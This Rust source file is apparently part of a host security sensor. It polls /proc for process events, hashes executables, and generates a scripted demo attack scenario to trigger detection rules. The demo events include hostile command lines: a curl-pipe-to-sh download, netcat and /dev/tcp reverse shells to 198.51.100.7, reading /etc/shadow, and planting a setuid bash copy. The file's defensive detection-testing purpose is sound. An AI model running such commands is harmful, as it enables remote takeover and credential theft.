//! What the reference sensor observes on its host: process starts (and, at `verbose`,
//! exits) from `/proc`, with the SHA-256 of each executable; and the scripted demo scenario.

use std::collections::{HashMap, HashSet};
use std::time::Duration;

use serde_json::{Value, json};
use sha2::Digest;
use tokio::sync::{mpsc, watch};
use vedette_schemas::fleet::ObserveLevel;

use super::Event;

/// The scripted attack scenario of `vedette sensor --demo`: benign activity plus one event
/// for every built-in rule, stamped `now_us` (µs since epoch) onward.
pub fn demo_scenario(host: &str, now_us: i64) -> Vec<Event> {
    let mut t = now_us;
    let mut next = |table: &str, mut row: Value| {
        t += 1_000;
        row["ts"] = json!(t);
        row["host"] = json!(host);
        Event { table: table.into(), row }
    };
    let proc_ = |exe: &str, cmd: &str, user: &str, parent: &str| {
        json!({"event_type": "start", "pid": 4000 + cmd.len() as i64, "ppid": 812, "uid": if user == "root" { 0 } else { 1000 },
               "user": user, "exe": exe, "cmdline": cmd, "cwd": "/home/dev", "parent_exe": parent,
               "parent_cmdline": parent.rsplit('/').next().unwrap_or(parent)})
    };
    let mut events = vec![
        next("process_events", proc_("/usr/bin/ls", "ls -la", "dev", "/usr/bin/bash")),
        next(
            "auth_events",
            json!({"user": "dev", "src_ip": "192.0.2.10", "service": "ssh", "method": "publickey", "outcome": "success"}),
        ),
        next(
            "file_events",
            json!({"pid": 612, "exe": "/usr/sbin/sshd", "user": "root", "uid": 0, "action": "read", "path": "/etc/shadow"}),
        ),
        next(
            "process_events",
            proc_("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh", "dev", "/usr/bin/bash"),
        ),
    ];
    // A brute force now, inside the current minute: its one-minute window closes once the
    // sensor's time passes the window's end plus the rule's lateness (see
    // [`demo_window_closes_at`]). Backdating it would make a second demo's rows late: the
    // first demo already moved the tenant's event time past them.
    let minute_end = now_us.div_euclid(MINUTE_US) * MINUTE_US + MINUTE_US;
    let start = now_us.min(minute_end - 100_000);
    for i in 0..6 {
        let mut row = json!({"user": "admin", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "failure", "host": host});
        row["ts"] = json!(start + i * 10_000);
        events.push(Event { table: "auth_events".into(), row });
    }
    events.extend([
        next("auth_events", json!({"user": "root", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "success"})),
        next("process_events", proc_("/usr/bin/bash", "bash -c curl -fsSL http://198.51.100.7/stage2.sh | sh", "www-data", "/usr/sbin/apache2")),
        next("process_events", proc_("/usr/bin/nc.traditional", "nc -e /bin/sh 198.51.100.7 4444", "www-data", "/usr/bin/bash")),
        next("network_events", json!({"pid": 4100, "exe": "/usr/bin/nc.traditional", "user": "www-data", "direction": "outbound", "protocol": "tcp",
            "src_ip": "10.0.0.5", "src_port": 51234, "dst_ip": "198.51.100.7", "dst_port": 4444})),
        next("process_events", proc_("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "www-data", "/usr/bin/python3")),
        next("process_events", proc_("/usr/bin/cat", "cat /etc/shadow", "root", "/usr/bin/bash")),
        next("file_events", json!({"pid": 4200, "exe": "/usr/bin/python3", "user": "www-data", "uid": 33, "action": "read", "path": "/etc/shadow"})),
        next("process_events", proc_("/usr/bin/cp", "cp /usr/bin/bash /tmp/.x/bash", "root", "/usr/bin/bash")),
        next("process_events", proc_("/usr/bin/chmod", "chmod u+s /tmp/.x/bash", "root", "/usr/bin/bash")),
        next("file_events", json!({"pid": 4300, "exe": "/usr/bin/chmod", "user": "root", "uid": 0, "action": "chmod", "path": "/tmp/.x/bash", "mode": 0o4755})),
    ]);
    events
}

const MINUTE_US: i64 = 60_000_000;

/// When the demo's brute-force window can close: the end of the minute of `now_us` plus the
/// rule's lateness (5 s) and a second of margin.
pub fn demo_window_closes_at(now_us: i64) -> i64 {
    now_us.div_euclid(MINUTE_US) * MINUTE_US + MINUTE_US + 6_000_000
}

/// A benign event stamped `at_us` that moves the sensor's event time past the demo's window
/// (a successful key-based login; no rule fires on it).
pub fn demo_closing_event(host: &str, at_us: i64) -> Event {
    let row = json!({"ts": at_us, "host": host, "user": "dev", "src_ip": "192.0.2.10", "service": "ssh",
                     "method": "publickey", "outcome": "success"});
    Event { table: "auth_events".into(), row }
}

/// Watches `/proc` at the observe level in `level` (re-read whenever it changes): nothing at
/// `minimal`, process starts every 500 ms at `standard`, starts and exits every 100 ms at
/// `verbose`. Ends when `tx` closes.
pub async fn watch_proc(host: String, tx: mpsc::Sender<Event>, mut level: watch::Receiver<ObserveLevel>) {
    let users = read_users();
    let mut hashes = ExeHashes::default();
    let mut seen: HashMap<u32, (String, String)> = HashMap::new();
    let mut primed = false;
    loop {
        let current = *level.borrow_and_update();
        let Some(every) = current.proc_poll_ms() else {
            // Minimal: collect nothing until the level changes; start afresh then (processes
            // started meanwhile are not reported as new).
            primed = false;
            if level.changed().await.is_err() {
                return;
            }
            continue;
        };
        if !primed {
            seen = list_pids().into_iter().map(|p| (p, (String::new(), String::new()))).collect();
            primed = true;
        }
        tokio::select! {
            _ = tokio::time::sleep(Duration::from_millis(every)) => {}
            changed = level.changed() => {
                if changed.is_err() { return; }
                continue;
            }
        }
        let now: HashSet<u32> = list_pids().into_iter().collect();
        let mut rows = Vec::new();
        for pid in &now {
            if seen.contains_key(pid) {
                continue;
            }
            if let Some(row) = describe_process(*pid, &users, &host, &mut hashes) {
                let exe = row["exe"].as_str().unwrap_or_default().to_string();
                let cmd = row["cmdline"].as_str().unwrap_or_default().to_string();
                seen.insert(*pid, (exe, cmd));
                rows.push(row);
            } else {
                seen.insert(*pid, (String::new(), String::new()));
            }
        }
        let gone: Vec<u32> = seen.keys().filter(|p| !now.contains(p)).copied().collect();
        for pid in gone {
            let Some((exe, cmdline)) = seen.remove(&pid) else { continue };
            if current.reports_exits() && !exe.is_empty() {
                rows.push(json!({
                    "ts": chrono::Utc::now().timestamp_micros(), "host": host, "event_type": "exit",
                    "pid": pid, "exe": exe, "cmdline": cmdline,
                }));
            }
        }
        for row in rows {
            if tx.send(Event { table: "process_events".into(), row }).await.is_err() {
                return;
            }
        }
    }
}

fn list_pids() -> Vec<u32> {
    std::fs::read_dir("/proc")
        .map(|d| d.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default()
}

fn read_users() -> HashMap<i64, String> {
    std::fs::read_to_string("/etc/passwd")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            Some((f.get(2)?.parse().ok()?, f.first()?.to_string()))
        })
        .collect()
}

fn proc_info(pid: u32) -> Option<(String, String, String, i64, i64)> {
    let base = format!("/proc/{pid}");
    let cmdline = std::fs::read(format!("{base}/cmdline")).ok()?;
    let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ").trim().to_string();
    let exe = std::fs::read_link(format!("{base}/exe")).map(|p| p.display().to_string()).unwrap_or_default();
    let cwd = std::fs::read_link(format!("{base}/cwd")).map(|p| p.display().to_string()).unwrap_or_default();
    let status = std::fs::read_to_string(format!("{base}/status")).ok()?;
    let field = |name: &str| {
        status.lines().find_map(|l| l.strip_prefix(name)).and_then(|v| v.split_whitespace().next()?.parse::<i64>().ok())
    };
    Some((exe, cmdline, cwd, field("PPid:").unwrap_or(0), field("Uid:").unwrap_or(-1)))
}

/// SHA-256 of executables, cached by path, size and modification time (hashing every
/// process's binary again would cost more than the rest of the sensor).
#[derive(Default)]
pub struct ExeHashes {
    cache: HashMap<(String, u64, i64), String>,
}

/// Largest executable hashed (bigger ones get no `sha256`).
const MAX_HASHED_BYTES: u64 = 256 << 20;

impl ExeHashes {
    /// The SHA-256 (lowercase hex) of the file a process runs, read through `/proc/<pid>/exe`
    /// (so a deleted or replaced binary is still the one hashed).
    pub fn of_process(&mut self, pid: u32, exe: &str) -> Option<String> {
        use std::os::unix::fs::MetadataExt;
        let path = format!("/proc/{pid}/exe");
        let meta = std::fs::metadata(&path).ok()?;
        if meta.len() > MAX_HASHED_BYTES {
            return None;
        }
        let key = (exe.to_string(), meta.len(), meta.mtime());
        if let Some(h) = self.cache.get(&key) {
            return Some(h.clone());
        }
        let mut file = std::fs::File::open(&path).ok()?;
        let mut hasher = sha2::Sha256::new();
        std::io::copy(&mut file, &mut hasher).ok()?;
        let h = hex::encode(hasher.finalize());
        if self.cache.len() >= 4096 {
            self.cache.clear();
        }
        self.cache.insert(key, h.clone());
        Some(h)
    }
}

fn describe_process(pid: u32, users: &HashMap<i64, String>, host: &str, hashes: &mut ExeHashes) -> Option<Value> {
    let (exe, cmdline, cwd, ppid, uid) = proc_info(pid)?;
    let (parent_exe, parent_cmdline) =
        u32::try_from(ppid).ok().and_then(proc_info).map(|(e, c, ..)| (e, c)).unwrap_or_default();
    let sha256 = if exe.is_empty() { None } else { hashes.of_process(pid, &exe) };
    Some(json!({
        "ts": chrono::Utc::now().timestamp_micros(), "host": host, "event_type": "start",
        "pid": pid, "ppid": ppid, "uid": uid, "user": users.get(&uid),
        "exe": exe, "cmdline": cmdline, "cwd": cwd, "parent_exe": parent_exe, "parent_cmdline": parent_cmdline,
        "sha256": sha256,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_sha256_of_a_running_executable_is_its_files() {
        let mut child = std::process::Command::new("sleep").arg("5").spawn().unwrap();
        let pid = child.id();
        let exe = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap();
        let want = hex::encode(sha2::Sha256::digest(std::fs::read(&exe).unwrap()));
        let mut h = ExeHashes::default();
        assert_eq!(h.of_process(pid, &exe.display().to_string()), Some(want.clone()));
        assert_eq!(h.of_process(pid, &exe.display().to_string()), Some(want.clone()), "cached");
        let row = describe_process(pid, &HashMap::new(), "h", &mut h).unwrap();
        assert_eq!(row["sha256"].as_str(), Some(want.as_str()));
        assert_eq!(row["exe"].as_str(), Some(exe.display().to_string().as_str()));
        let _ = child.kill();
        let _ = child.wait();
    }
}
